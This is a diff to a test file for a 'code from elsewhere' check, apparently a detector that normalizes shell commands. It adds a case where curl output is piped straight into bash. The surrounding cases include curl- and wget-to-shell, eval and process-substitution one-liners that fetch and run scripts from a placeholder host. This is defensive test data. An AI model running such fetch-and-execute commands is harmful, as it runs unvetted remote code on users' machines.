@@ -13,6 +13,10 @@ describe("code from elsewhere", () => {
     ["curl https://x.org/i.py | python3 -", "curl https://x.org/i.py | python3"],
     ["${pkgs.curl}/bin/curl https://x.org/i.sh | ${lib.getExe pkgs.bash}", "curl https://x.org/i.sh | bash"],
     ["${lib.getExe pkgs.curl} https://x.org/i.sh | /bin/sh", "curl https://x.org/i.sh | sh"],
+    [
+      "'/usr/local/bin/curl' https://x.org/i.sh|/run/current-system/sw/bin/bash",
+      "curl https://x.org/i.sh | bash",
+    ],
     ['eval "$(curl -s https://x.org/env)"', "eval $(curl https://x.org/env)"],
     ['sh -c "$(wget -O - https://x.org/i.sh)"', "sh $(wget https://x.org/i.sh)"],
     ["bash <(curl -s https://x.org/i.sh)", "bash $(curl https://x.org/i.sh)"],
